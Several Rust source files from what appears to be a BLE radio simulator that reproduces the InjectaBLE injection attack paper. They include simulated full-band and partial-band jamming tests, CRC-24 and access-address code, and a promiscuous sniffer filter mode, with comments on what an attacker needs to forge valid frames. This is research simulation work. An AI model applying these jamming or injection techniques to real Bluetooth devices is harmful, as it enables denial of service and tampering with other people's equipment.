    for _ in 0..100 {
        sim.run_for(Duration::from_millis(100));
        if sim.node::<Central>(c).unwrap().ll.is_connected() {
            break;
        }
    }
    assert!(
        sim.node::<Central>(c).unwrap().ll.is_connected(),
        "connects under jamming"
    );
    sim.run_for(Duration::from_secs(10));
    assert!(
        sim.node::<Central>(c).unwrap().ll.is_connected(),
        "survives 10 s of jamming"
    );
    assert!(sim.node::<Lightbulb>(b).unwrap().ll.is_connected());

    // Application traffic gets through via retransmissions.
    sim.node_mut::<Central>(c)
        .unwrap()
        .write(control, bulb_payloads::power_on());
    sim.run_for(Duration::from_secs(3));
    assert!(
        sim.node::<Lightbulb>(b).unwrap().app.on,
        "write survives the jammed channels"
    );
}

#[test]
fn full_band_jamming_kills_then_recovery_follows() {
    // A single BLE radio cannot blanket all 37 data channels (each garbage
    // frame parks it on one channel for its whole airtime) — which is *why*
    // the partial-band test above survives. Denial requires wideband
    // equipment; model it as one dedicated jammer per data channel. Once
    // the jammers quiet down, auto-reconnect must restore the connection.
    let mut rng = SimRng::seed_from(0xDEAD);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());
    let bulb = Lightbulb::new(0xB1, rng.fork());
    let bulb_addr = bulb.ll.address();
    let params = ConnectionParams::typical(&mut rng, 24);
    let central = Central::new(0xA0, bulb_addr, params, rng.fork());

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb,
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central,
    );
    let mut jammers = Vec::new();
    for ch in 0..37u8 {
        let id = sim.add_node(
            NodeConfig::new(format!("jam{ch}"), Position::new(0.2, 0.2)).with_tx_power(20.0),
            Jammer::new(&[ch], Duration::from_micros(10)),
        );
        jammers.push(id);
    }
    sim.start(b);
    sim.start(c);
    // Let the connection establish first, then light up the band.
    for _ in 0..100 {
        sim.run_for(Duration::from_millis(100));
        if sim.node::<Central>(c).unwrap().ll.is_connected() {
            break;
        }
    }
    assert!(sim.node::<Central>(c).unwrap().ll.is_connected());
    for &id in &jammers {
        sim.with_node_ctx::<Jammer, _>(id, |jammer, ctx| jammer.blast(ctx))
            .expect("jammer node");
    }
    sim.run_for(Duration::from_secs(5));
    assert!(
        sim.node::<Central>(c).unwrap().disconnections >= 1,
        "full-band jamming must break the connection"
    );
    // Quiet the jammers (enormous idle period after the current frame).
    for &id in &jammers {
        sim.node_mut::<Jammer>(id).unwrap().period = Duration::from_secs(3600);
    }
    sim.run_for(Duration::from_secs(20));
    assert!(
        sim.node::<Central>(c).unwrap().ll.is_connected(),
        "auto-reconnect restores the connection after the jammers quiet"
    );
}
