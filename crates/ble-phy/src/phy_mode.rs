//! Physical-layer modes and airtime computation.

use simkit::Duration;

/// A BLE physical layer mode.
///
/// The paper's experiments all use LE 1M (1 Mbit/s uncoded, the mandatory
/// PHY); LE 2M and the coded PHYs are provided for the BLE 5 extension
/// experiments.
///
/// # Example
///
/// ```
/// use ble_phy::PhyMode;
/// // The paper's 22-byte over-the-air frame takes 176 µs on LE 1M.
/// let airtime = PhyMode::Le1M.airtime_for_total_bytes(22);
/// assert_eq!(airtime.as_micros(), 176);
/// ```
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, Default)]
pub enum PhyMode {
    /// Uncoded 1 Mbit/s GFSK (BLE 4.x mandatory PHY).
    #[default]
    Le1M,
    /// Uncoded 2 Mbit/s GFSK (BLE 5).
    Le2M,
    /// Coded PHY, S=2 (500 kbit/s).
    LeCodedS2,
    /// Coded PHY, S=8 (125 kbit/s).
    LeCodedS8,
}

impl PhyMode {
    /// Nanoseconds to transmit one bit.
    pub const fn ns_per_bit(self) -> u64 {
        match self {
            PhyMode::Le1M => 1_000,
            PhyMode::Le2M => 500,
            PhyMode::LeCodedS2 => 2_000,
            PhyMode::LeCodedS8 => 8_000,
        }
    }

    /// Nanoseconds to transmit one byte.
    pub const fn ns_per_byte(self) -> u64 {
        self.ns_per_bit() * 8
    }

    /// Preamble length in bytes (1 for LE 1M, 2 for LE 2M; the coded PHY
    /// preamble is longer but modelled as its uncoded-equivalent here).
    pub const fn preamble_len(self) -> usize {
        match self {
            PhyMode::Le1M | PhyMode::LeCodedS2 | PhyMode::LeCodedS8 => 1,
            PhyMode::Le2M => 2,
        }
    }

    /// Airtime of a frame given its *total* over-the-air byte count
    /// (preamble + access address + PDU + CRC).
    pub fn airtime_for_total_bytes(self, total_bytes: usize) -> Duration {
        Duration::from_nanos(total_bytes as u64 * self.ns_per_byte())
    }

    /// Airtime of a frame given only its PDU length, adding preamble,
    /// access address (4 bytes) and CRC (3 bytes) automatically.
    pub fn airtime_for_pdu(self, pdu_len: usize) -> Duration {
        self.airtime_for_total_bytes(self.preamble_len() + 4 + pdu_len + 3)
    }

    /// Duration of the preamble alone — the window a late-opening receiver
    /// has to still catch frame synchronisation.
    pub fn preamble_duration(self) -> Duration {
        Duration::from_nanos(self.preamble_len() as u64 * self.ns_per_byte())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn le1m_matches_paper_example() {
        // Paper §VII-A: a 22-byte frame is 176 µs on LE 1M.
        assert_eq!(PhyMode::Le1M.airtime_for_total_bytes(22).as_micros(), 176);
    }

    #[test]
    fn airtime_for_pdu_adds_framing_overhead() {
        // Empty data PDU: 1 preamble + 4 AA + 2 header... the PDU here is
        // header+payload, so an empty *payload* PDU of 2 bytes gives
        // 1+4+2+3 = 10 bytes = 80 µs.
        assert_eq!(PhyMode::Le1M.airtime_for_pdu(2).as_micros(), 80);
    }

    #[test]
    fn le2m_is_twice_as_fast() {
        let a1 = PhyMode::Le1M.airtime_for_total_bytes(30);
        let a2 = PhyMode::Le2M.airtime_for_total_bytes(30);
        assert_eq!(a1.as_nanos(), 2 * a2.as_nanos());
    }

    #[test]
    fn coded_phys_are_slower() {
        assert!(PhyMode::LeCodedS8.ns_per_bit() > PhyMode::LeCodedS2.ns_per_bit());
        assert!(PhyMode::LeCodedS2.ns_per_bit() > PhyMode::Le1M.ns_per_bit());
    }

    #[test]
    fn preamble_durations() {
        assert_eq!(PhyMode::Le1M.preamble_duration().as_micros(), 8);
        assert_eq!(PhyMode::Le2M.preamble_duration().as_micros(), 8);
    }
}
