//! The BLE CRC-24.
//!
//! Every Link-Layer packet carries a 24-bit CRC over the PDU, computed by an
//! LFSR implementing x²⁴ + x¹⁰ + x⁹ + x⁶ + x⁴ + x³ + x + 1, seeded with
//! 0x555555 on the advertising channels and with the connection's `CRCInit`
//! (carried in `CONNECT_REQ`) on data channels. Bits are processed in
//! over-the-air order (least-significant bit of each byte first).
//!
//! The CRC plays two roles in the InjectaBLE attack: the attacker must forge
//! frames with a valid CRC for the connection (requiring `CRCInit` recovered
//! by the sniffer), and the paper's success heuristic (eq. 7) detects a
//! collision-corrupted injection through the *Slave not acknowledging* a
//! frame whose CRC check failed.

/// Length of the CRC field in bytes.
pub const CRC_LEN: usize = 3;

/// The CRC preset used on advertising channels.
pub const ADVERTISING_CRC_INIT: u32 = 0x555555;

/// Reversed polynomial taps with the implicit x²⁴ carry-in folded in:
/// `(1 << 23) | 0x5A_6000`. One feedback step of the reflected LFSR is
/// `state = (state >> 1) ^ (feedback ? REFLECTED_TAPS : 0)`.
const REFLECTED_TAPS: u32 = 0xDA_6000;

/// Byte-wise CRC lookup table, built at compile time from the same LFSR
/// step the bitwise reference uses. Because the CRC is linear over GF(2),
/// eight bit-steps factor into `(state >> 8) ^ TABLE[(state ^ byte) & 0xFF]`
/// — the standard reflected table-driven form.
const CRC24_TABLE: [u32; 256] = build_crc24_table();

const fn build_crc24_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut byte = 0u32;
    loop {
        let mut state = byte;
        let mut step = 0;
        while step < 8 {
            let feedback = state & 1;
            state >>= 1;
            if feedback != 0 {
                state ^= REFLECTED_TAPS;
            }
            step += 1;
        }
        // xtask-allow: R2 — u8 → usize widens on every platform
        table[byte as usize % 256] = state;
        if byte == 255 {
            break;
        }
        byte += 1;
    }
    table
}

/// Computes the BLE CRC-24 over `data` with the given 24-bit initial value.
///
/// Table-driven (one lookup per byte); [`crc24_bitwise`] is the retired
/// bit-at-a-time implementation, kept as the equivalence-test reference.
/// The returned value occupies the low 24 bits.
///
/// # Example
///
/// ```
/// use ble_phy::crc24;
/// let crc = crc24(0x555555, &[0x00, 0x01, 0x02]);
/// assert!(crc <= 0xFF_FFFF);
/// // CRC changes if any bit of the input changes.
/// assert_ne!(crc, crc24(0x555555, &[0x01, 0x01, 0x02]));
/// ```
pub fn crc24(init: u32, data: &[u8]) -> u32 {
    let mut state = init & 0xFF_FFFF;
    for &byte in data {
        // xtask-allow: R2 — masked to 8 bits before the widening cast
        let idx = ((state ^ u32::from(byte)) & 0xFF) as usize;
        state = (state >> 8) ^ CRC24_TABLE[idx % 256];
    }
    state
}

/// Bit-at-a-time CRC-24 (the original implementation), retained as the
/// reference the table-driven [`crc24`] is property-tested against.
pub fn crc24_bitwise(init: u32, data: &[u8]) -> u32 {
    // Reflected (LSB-first) LFSR; taps 0x5A6000 are the reversed polynomial.
    let mut state = init & 0xFF_FFFF;
    for &byte in data {
        let mut cur = byte;
        for _ in 0..8 {
            let next_bit = (state ^ u32::from(cur)) & 1;
            cur >>= 1;
            state >>= 1;
            if next_bit != 0 {
                state |= 1 << 23;
                state ^= 0x5A_6000;
            }
        }
    }
    state
}

/// Computes the CRC and returns its three over-the-air bytes
/// (least-significant state byte first).
pub fn crc24_bytes(init: u32, data: &[u8]) -> [u8; CRC_LEN] {
    let [b0, b1, b2, _] = crc24(init, data).to_le_bytes();
    [b0, b1, b2]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Bit-at-a-time long-division oracle, written independently of the LFSR
    /// formulation above: reflect the polynomial explicitly and divide.
    fn crc24_oracle(init: u32, data: &[u8]) -> u32 {
        // Galois LFSR over reflected polynomial REV(0x00065B) for x^24+...+1.
        // rev24(0x00065B with implicit x^24): taps at k in {0(implicit via
        // carry-in), 1,3,4,6,9,10}. Reflected positions: 23-k.
        let mut reg = init & 0xFF_FFFF;
        for &byte in data {
            for bit in 0..8 {
                let incoming = u32::from((byte >> bit) & 1);
                let feedback = (reg & 1) ^ incoming;
                reg >>= 1;
                if feedback != 0 {
                    // x^24 term: inject at bit 23; other taps x^10,x^9,x^6,
                    // x^4,x^3,x^1 reflect to bits 13,14,17,19,20,22.
                    reg ^= (1 << 23)
                        | (1 << 13)
                        | (1 << 14)
                        | (1 << 17)
                        | (1 << 19)
                        | (1 << 20)
                        | (1 << 22);
                }
            }
        }
        reg
    }

    #[test]
    fn matches_independent_oracle() {
        let cases: [(&[u8], u32); 5] = [
            (&[], ADVERTISING_CRC_INIT),
            (&[0x00], ADVERTISING_CRC_INIT),
            (&[0xFF, 0x00, 0xAA, 0x55], 0x123456),
            (b"InjectaBLE attack frame", 0xABCDEF),
            (&[0xD6, 0xBE, 0x89, 0x8E, 0x40, 0x24], 0x555555),
        ];
        for (data, init) in cases {
            assert_eq!(crc24(init, data), crc24_oracle(init, data), "{data:?}");
        }
    }

    #[test]
    fn table_driven_matches_bitwise_reference() {
        // Exhaustive over single bytes (exercises every table entry), plus
        // longer mixed-content inputs and several init values.
        for b in 0..=255u8 {
            assert_eq!(crc24(0x555555, &[b]), crc24_bitwise(0x555555, &[b]), "{b}");
        }
        let inits = [0x000000, 0x555555, 0xABCDEF, 0xFF_FFFF, 0x13_37C0];
        let data: Vec<u8> = (0..=255u8).cycle().take(600).collect();
        for init in inits {
            for len in [0, 1, 2, 3, 7, 31, 256, 600] {
                assert_eq!(
                    crc24(init, &data[..len]),
                    crc24_bitwise(init, &data[..len]),
                    "init {init:#x} len {len}"
                );
            }
        }
    }

    #[test]
    fn empty_input_returns_init() {
        assert_eq!(crc24(0x555555, &[]), 0x555555);
        assert_eq!(crc24(0xABCDEF, &[]), 0xABCDEF);
    }

    #[test]
    fn result_fits_in_24_bits() {
        for i in 0..100u8 {
            let c = crc24(0xFF_FFFF, &[i, i.wrapping_mul(3), 0xFF]);
            assert!(c <= 0xFF_FFFF);
        }
    }

    #[test]
    fn single_bit_flips_change_crc() {
        let base = b"connection event payload".to_vec();
        let reference = crc24(0x00F0F0, &base);
        for byte_idx in 0..base.len() {
            for bit in 0..8 {
                let mut flipped = base.clone();
                flipped[byte_idx] ^= 1 << bit;
                assert_ne!(
                    crc24(0x00F0F0, &flipped),
                    reference,
                    "flip at {byte_idx}.{bit} undetected"
                );
            }
        }
    }

    #[test]
    fn different_init_different_crc() {
        let data = b"pdu";
        assert_ne!(crc24(0x111111, data), crc24(0x222222, data));
    }

    #[test]
    fn bytes_are_little_endian_of_state() {
        let c = crc24(0x555555, b"x");
        let b = crc24_bytes(0x555555, b"x");
        assert_eq!(
            u32::from(b[0]) | u32::from(b[1]) << 8 | u32::from(b[2]) << 16,
            c
        );
    }

    #[test]
    fn crc_is_linear_over_gf2() {
        // crc(a) ^ crc(b) ^ crc(0) == crc(a ^ b) for equal-length inputs with
        // the same init — a structural property of CRCs that catches most
        // implementation mistakes.
        let a = [0x13, 0x37, 0xC0, 0xDE];
        let b = [0xFA, 0xCE, 0xB0, 0x0C];
        let z = [0u8; 4];
        let x: Vec<u8> = a.iter().zip(&b).map(|(p, q)| p ^ q).collect();
        let init = 0x9A8B7C;
        assert_eq!(
            crc24(init, &a) ^ crc24(init, &b) ^ crc24(init, &z),
            crc24(init, &x)
        );
    }
}
