//! Access addresses.
//!
//! Every BLE frame begins (after the preamble) with a 32-bit access address.
//! Advertising traffic uses the fixed value `0x8E89BED6`; each connection
//! uses a random address chosen by the initiator in `CONNECT_REQ`, subject
//! to the validity rules of the Core Specification (Vol 6, Part B, §2.1.2).
//! Radios synchronise on the access address, which is why the sniffer in the
//! InjectaBLE attack must recover it before it can follow a connection.

use std::fmt;

use simkit::SimRng;

/// A 32-bit BLE access address.
///
/// # Example
///
/// ```
/// use ble_phy::AccessAddress;
/// assert!(AccessAddress::ADVERTISING.is_advertising());
/// let aa = AccessAddress::new(0x8E89BED7);
/// // Differs from the advertising address by one bit: invalid for data.
/// assert!(!aa.is_valid_for_data());
/// ```
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct AccessAddress(u32);

impl AccessAddress {
    /// The fixed advertising-channel access address.
    pub const ADVERTISING: AccessAddress = AccessAddress(0x8E89_BED6);

    /// Wraps a raw 32-bit value.
    pub const fn new(value: u32) -> Self {
        AccessAddress(value)
    }

    /// The raw 32-bit value.
    pub const fn value(self) -> u32 {
        self.0
    }

    /// Whether this is the advertising access address.
    pub const fn is_advertising(self) -> bool {
        self.0 == Self::ADVERTISING.0
    }

    /// The four over-the-air bytes (least-significant byte first).
    pub const fn to_le_bytes(self) -> [u8; 4] {
        self.0.to_le_bytes()
    }

    /// Parses from over-the-air byte order.
    pub const fn from_le_bytes(bytes: [u8; 4]) -> Self {
        AccessAddress(u32::from_le_bytes(bytes))
    }

    /// Checks the Core Specification validity rules for a *data channel*
    /// access address:
    ///
    /// * not the advertising address, nor one bit away from it;
    /// * no more than six consecutive equal bits;
    /// * the four bytes are not all identical;
    /// * no more than 24 bit transitions overall;
    /// * at least two transitions in the most significant six bits.
    pub fn is_valid_for_data(self) -> bool {
        if self.is_advertising() {
            return false;
        }
        if (self.0 ^ Self::ADVERTISING.0).count_ones() == 1 {
            return false;
        }
        let bytes = self.0.to_le_bytes();
        if bytes.iter().all(|&b| b == bytes[0]) {
            return false;
        }
        let bits: Vec<bool> = (0..32).map(|i| (self.0 >> i) & 1 != 0).collect();
        // Runs of equal bits.
        let mut run = 1usize;
        for pair in bits.windows(2) {
            if pair[0] == pair[1] {
                run += 1;
                if run > 6 {
                    return false;
                }
            } else {
                run = 1;
            }
        }
        // Total transitions.
        let transitions = bits.windows(2).filter(|p| p[0] != p[1]).count();
        if transitions > 24 {
            return false;
        }
        // Transitions within the six most significant bits (bits 26..32).
        let msb_transitions = bits[26..].windows(2).filter(|p| p[0] != p[1]).count();
        if msb_transitions < 2 {
            return false;
        }
        true
    }

    /// Generates a uniformly random *valid* data-channel access address.
    pub fn random_for_data(rng: &mut SimRng) -> Self {
        loop {
            let candidate = AccessAddress(ble_invariants::lsb32(rng.below(1 << 32)));
            if candidate.is_valid_for_data() {
                return candidate;
            }
        }
    }
}

impl fmt::Debug for AccessAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "AA(0x{:08X})", self.0)
    }
}

impl fmt::Display for AccessAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "0x{:08X}", self.0)
    }
}

impl fmt::LowerHex for AccessAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::LowerHex::fmt(&self.0, f)
    }
}

impl From<u32> for AccessAddress {
    fn from(value: u32) -> Self {
        AccessAddress(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advertising_address_is_not_valid_for_data() {
        assert!(!AccessAddress::ADVERTISING.is_valid_for_data());
    }

    #[test]
    fn one_bit_neighbours_of_advertising_are_invalid() {
        for bit in 0..32 {
            let aa = AccessAddress::new(AccessAddress::ADVERTISING.value() ^ (1 << bit));
            assert!(!aa.is_valid_for_data(), "bit {bit}");
        }
    }

    #[test]
    fn all_equal_bytes_invalid() {
        assert!(!AccessAddress::new(0x5555_5555).is_valid_for_data());
        assert!(!AccessAddress::new(0x0000_0000).is_valid_for_data());
        assert!(!AccessAddress::new(0xFFFF_FFFF).is_valid_for_data());
    }

    #[test]
    fn long_runs_invalid() {
        // 0x0000_7F... has more than six consecutive zeros.
        assert!(!AccessAddress::new(0b0000_0000_1010_1010_1010_1010_1010_1010).is_valid_for_data());
    }

    #[test]
    fn too_many_transitions_invalid() {
        // Alternating bits: 31 transitions.
        assert!(!AccessAddress::new(0xAAAA_AAAA).is_valid_for_data());
        assert!(!AccessAddress::new(0x5555_5555).is_valid_for_data());
    }

    #[test]
    fn known_reasonable_address_is_valid() {
        // A plausible connection AA with mixed structure.
        assert!(AccessAddress::new(0x50C2_33A1).is_valid_for_data());
    }

    #[test]
    fn random_addresses_are_valid_and_varied() {
        let mut rng = SimRng::seed_from(99);
        #[allow(clippy::disallowed_types)] // scratch set in test code; R7 exempts #[cfg(test)]
        let mut seen = std::collections::HashSet::new();
        for _ in 0..100 {
            let aa = AccessAddress::random_for_data(&mut rng);
            assert!(aa.is_valid_for_data(), "{aa}");
            seen.insert(aa.value());
        }
        assert!(seen.len() > 90, "addresses should be diverse");
    }

    #[test]
    fn byte_roundtrip() {
        let aa = AccessAddress::new(0x1234_5678);
        assert_eq!(AccessAddress::from_le_bytes(aa.to_le_bytes()), aa);
        assert_eq!(aa.to_le_bytes(), [0x78, 0x56, 0x34, 0x12]);
    }

    #[test]
    fn display_formats() {
        let aa = AccessAddress::ADVERTISING;
        assert_eq!(format!("{aa}"), "0x8E89BED6");
        assert!(format!("{aa:?}").contains("8E89BED6"));
    }
}
