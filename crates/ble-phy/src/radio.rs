//! Radio endpoints: node configuration, events and the listener context.

use std::fmt;

use simkit::{DriftClock, Duration, Instant, SimRng};

use crate::access_address::AccessAddress;
use crate::channel::Channel;
use crate::frame::{RawFrame, ReceivedFrame};
use crate::geometry::Position;
use crate::medium::{SimInner, TxHandle};
use crate::phy_mode::PhyMode;

/// Identifier of a node within a [`crate::Simulation`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Debug)]
pub struct NodeId(pub(crate) usize);

impl NodeId {
    /// The node's index within the simulation.
    pub fn index(self) -> usize {
        self.0
    }
}

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "node#{}", self.0)
    }
}

/// User-chosen timer discriminator, echoed back in [`RadioEvent::Timer`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct TimerKey(pub u64);

/// Receiver access-address filtering mode.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AccessFilter {
    /// Synchronise only on one access address (normal radio operation).
    One(AccessAddress),
    /// Synchronise on any detectable frame (promiscuous sniffer mode).
    Any,
}

impl AccessFilter {
    /// Whether a frame with the given access address passes the filter.
    pub fn matches(self, aa: AccessAddress) -> bool {
        match self {
            AccessFilter::One(want) => want == aa,
            AccessFilter::Any => true,
        }
    }
}

/// Events delivered to a [`RadioListener`].
///
/// `FrameReceived` carries the inline-PDU [`ReceivedFrame`] by value on
/// purpose: the event is built and consumed on the stack of a single
/// dispatch, and boxing it would put a heap allocation back on every
/// frame delivery (see `bench/tests/alloc_budget.rs`).
#[allow(clippy::large_enum_variant)]
#[derive(Debug, Clone, PartialEq)]
pub enum RadioEvent {
    /// The receiver synchronised on a frame's preamble and access address.
    /// Delivered at the frame's *start*; the body is still on the air.
    SyncDetected {
        /// Channel the synchronisation happened on.
        channel: Channel,
        /// Access address of the incoming frame.
        access_address: AccessAddress,
        /// Time the frame's leading edge arrived.
        at: Instant,
    },
    /// A complete frame was received (possibly with a failed CRC).
    FrameReceived(ReceivedFrame),
    /// A transmission started earlier has left the antenna.
    TxDone {
        /// Time the last bit left the antenna.
        at: Instant,
    },
    /// A timer armed through [`NodeCtx`] fired.
    Timer {
        /// The key passed when the timer was armed.
        key: TimerKey,
        /// Time the timer fired (true simulation time).
        at: Instant,
    },
}

/// A protocol state machine driving one radio.
///
/// Implementations react to [`RadioEvent`]s and act through the [`NodeCtx`]:
/// transmitting frames, tuning the receiver and arming timers. All BLE
/// roles in this workspace — advertiser, scanner, connection master/slave,
/// the InjectaBLE sniffer and injector — implement this trait.
pub trait RadioListener {
    /// Handles one radio event.
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent);

    /// Bootstraps the node: arm the first timer, open the receiver, send the
    /// first advertisement. Called by [`crate::World::start`] once — *after*
    /// every node has been added, so start order (and thus event-queue and
    /// RNG ordering) is an explicit, reproducible part of a scenario rather
    /// than a side effect of construction. The default does nothing.
    fn on_start(&mut self, _ctx: &mut NodeCtx<'_>) {}
}

/// An arena-owned simulation node.
///
/// [`crate::World`] stores every node as a `Box<dyn Node>` keyed by its
/// [`NodeId`]; the scheduler dispatches events with plain `&mut` access (no
/// `Rc<RefCell<…>>`, no runtime borrow checks on the per-frame hot path).
/// The `Any` supertrait lets callers recover the concrete type through
/// [`crate::World::node`] / [`crate::World::node_mut`], and the `Send`
/// supertrait keeps whole worlds movable across threads for process-level
/// trial fan-out.
///
/// Implemented automatically for every `RadioListener + Any + Send` type —
/// implement [`RadioListener`] and the arena takes care of the rest.
pub trait Node: RadioListener + std::any::Any + Send {
    /// Type-erased read access (for downcasting).
    fn as_any(&self) -> &dyn std::any::Any;
    /// Type-erased mutable access (for downcasting).
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any;
}

impl<T: RadioListener + std::any::Any + Send> Node for T {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }
}

/// Static configuration of a simulation node.
#[derive(Debug, Clone)]
pub struct NodeConfig {
    pub(crate) label: String,
    pub(crate) position: Position,
    pub(crate) tx_power_dbm: f64,
    pub(crate) clock: DriftClock,
    pub(crate) phy: PhyMode,
    pub(crate) shared_radio: bool,
}

impl NodeConfig {
    /// Creates a node at `position` with defaults: 0 dBm transmit power, an
    /// ideal clock and the LE 1M PHY.
    pub fn new(label: impl Into<String>, position: Position) -> Self {
        NodeConfig {
            label: label.into(),
            position,
            tx_power_dbm: 0.0,
            clock: DriftClock::ideal(),
            phy: PhyMode::Le1M,
            shared_radio: false,
        }
    }

    /// Declares the node's radio as time-multiplexed between several
    /// protocol state machines (e.g. a multi-connection Central running one
    /// Link Layer per connection slot).
    ///
    /// A single-machine node treats a transmit or receive request while
    /// already transmitting as a protocol bug (debug builds assert). A
    /// shared radio cannot globally schedule its independent machines, so
    /// overlapping requests are expected there: the in-flight frame is
    /// abandoned mid-air (it keeps interfering, like a real collision) and
    /// the radio retunes to the new request.
    pub fn with_shared_radio(mut self) -> Self {
        self.shared_radio = true;
        self
    }

    /// Sets the transmit power in dBm.
    pub fn with_tx_power(mut self, dbm: f64) -> Self {
        self.tx_power_dbm = dbm;
        self
    }

    /// Sets the node's sleep clock.
    pub fn with_clock(mut self, clock: DriftClock) -> Self {
        self.clock = clock;
        self
    }

    /// Sets the PHY mode used for transmissions.
    pub fn with_phy(mut self, phy: PhyMode) -> Self {
        self.phy = phy;
        self
    }
}

/// Handle to a pending timer, usable for cancellation.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct TimerHandle(pub(crate) simkit::EventId);

/// The capability handle a listener acts through while processing an event.
///
/// All methods operate on the listener's own node. The context exposes the
/// node's drifting sleep clock: `set_timer_local*` converts local delays to
/// true simulation time through that clock (with jitter), which is how clock
/// inaccuracy — the root cause of window widening — enters the simulation.
pub struct NodeCtx<'a> {
    pub(crate) node: NodeId,
    pub(crate) sim: &'a mut SimInner,
}

impl<'a> NodeCtx<'a> {
    /// Current true simulation time.
    pub fn now(&self) -> Instant {
        self.sim.now()
    }

    /// This node's identifier.
    pub fn node_id(&self) -> NodeId {
        self.node
    }

    /// This node's label.
    pub fn label(&self) -> &str {
        self.sim.node_label(self.node)
    }

    /// This node's sleep clock.
    pub fn clock(&self) -> &DriftClock {
        self.sim.node_clock(self.node)
    }

    /// This node's PHY mode.
    pub fn phy(&self) -> PhyMode {
        self.sim.node_phy(self.node)
    }

    /// This node's deterministic random source.
    pub fn rng(&mut self) -> &mut SimRng {
        self.sim.node_rng(self.node)
    }

    /// Starts transmitting `frame` on `channel` immediately.
    ///
    /// Any reception in progress is abandoned (the radio is half-duplex).
    /// Calling this while already transmitting is a protocol-machine bug:
    /// debug builds assert, release builds retune to the new frame.
    pub fn transmit(&mut self, channel: Channel, frame: RawFrame) -> TxHandle {
        self.sim.transmit(self.node, channel, frame)
    }

    /// Opens the receiver on `channel`, synchronising on frames that pass
    /// `filter`; `crc_init` is used for CRC validation of received frames.
    ///
    /// If a frame's preamble began no more than a quarter preamble ago, the
    /// receiver still locks onto it — opening the window "just in time"
    /// works, as it must for window-widening semantics.
    ///
    /// Calling this while transmitting is a protocol-machine bug: debug
    /// builds assert, release builds ignore the request.
    pub fn start_rx(&mut self, channel: Channel, filter: AccessFilter, crc_init: u32) {
        self.sim.start_rx(self.node, channel, filter, crc_init);
    }

    /// Closes the receiver.
    pub fn stop_rx(&mut self) {
        self.sim.stop_rx(self.node);
    }

    /// Whether the radio is currently in receive mode.
    pub fn is_receiving(&self) -> bool {
        self.sim.is_receiving(self.node)
    }

    /// Whether the radio is currently transmitting.
    pub fn is_transmitting(&self) -> bool {
        self.sim.is_transmitting(self.node)
    }

    /// How many transmissions this node has started since the simulation
    /// began. A multiplexer sharing the radio between several protocol
    /// machines compares this across a machine's event handling to learn
    /// which machine owns the in-flight transmission (and therefore the
    /// next `TxDone`) — an `is_transmitting()` edge misses a back-to-back
    /// replacement, where the flag reads `true` on both sides.
    pub fn tx_start_count(&self) -> u64 {
        self.sim.tx_start_count(self.node)
    }

    /// Arms a timer `local_delay` (by this node's clock) from *now*, with
    /// clock drift and wake-up jitter applied.
    pub fn set_timer_local(&mut self, local_delay: Duration, key: TimerKey) -> TimerHandle {
        let now = self.now();
        self.set_timer_local_from(now, local_delay, key)
    }

    /// Arms a timer `local_delay` (by this node's clock) from an arbitrary
    /// reference instant — typically an observed anchor point. This is the
    /// primitive BLE connection timing is built on.
    pub fn set_timer_local_from(
        &mut self,
        reference: Instant,
        local_delay: Duration,
        key: TimerKey,
    ) -> TimerHandle {
        self.sim
            .set_timer_local_from(self.node, reference, local_delay, key)
    }

    /// Arms a timer at an exact true simulation time (no drift or jitter).
    /// Intended for tests and for omniscient instrumentation.
    pub fn set_timer_at(&mut self, at: Instant, key: TimerKey) -> TimerHandle {
        self.sim.set_timer_at(self.node, at, key)
    }

    /// Cancels a pending timer. Cancelling one that already fired is a
    /// no-op.
    pub fn cancel_timer(&mut self, handle: TimerHandle) {
        self.sim.cancel_timer(handle);
    }

    /// Appends a record to the simulation trace. Legacy free-form entry
    /// point: the record is also forwarded to telemetry sinks as a
    /// [`ble_telemetry::TelemetryEvent::Raw`]. Prefer [`NodeCtx::emit`] with
    /// a typed event for new instrumentation.
    pub fn trace(&mut self, tag: &'static str, detail: String) {
        let now = self.now();
        self.sim.trace_record(now, Some(self.node), tag, detail);
    }

    /// Whether any observability consumer (trace or telemetry sink) is
    /// active. Lets callers skip *computing* inputs for an emit when nobody
    /// is listening; the emit itself is already lazily built.
    #[inline]
    pub fn telemetry_active(&self) -> bool {
        self.sim.telemetry_active()
    }

    /// Emits a typed telemetry event attributed to this node, timestamped
    /// *now*. The closure only runs when tracing or a sink is active.
    #[inline]
    pub fn emit(&mut self, build: impl FnOnce() -> ble_telemetry::TelemetryEvent) {
        let now = self.now();
        self.sim.emit(now, Some(self.node), build);
    }

    /// Emits a typed telemetry event at an explicit timestamp (e.g. a
    /// received frame's on-air start rather than its processing time).
    #[inline]
    pub fn emit_at(&mut self, at: Instant, build: impl FnOnce() -> ble_telemetry::TelemetryEvent) {
        self.sim.emit(at, Some(self.node), build);
    }

    /// Opens a hierarchical span attributed to this node, timestamped
    /// *now*. Returns [`ble_telemetry::SpanId::DISABLED`] (making the
    /// matching exit a no-op) when no telemetry sink is attached — the
    /// disabled path is a branch-and-return like [`NodeCtx::emit`].
    #[inline]
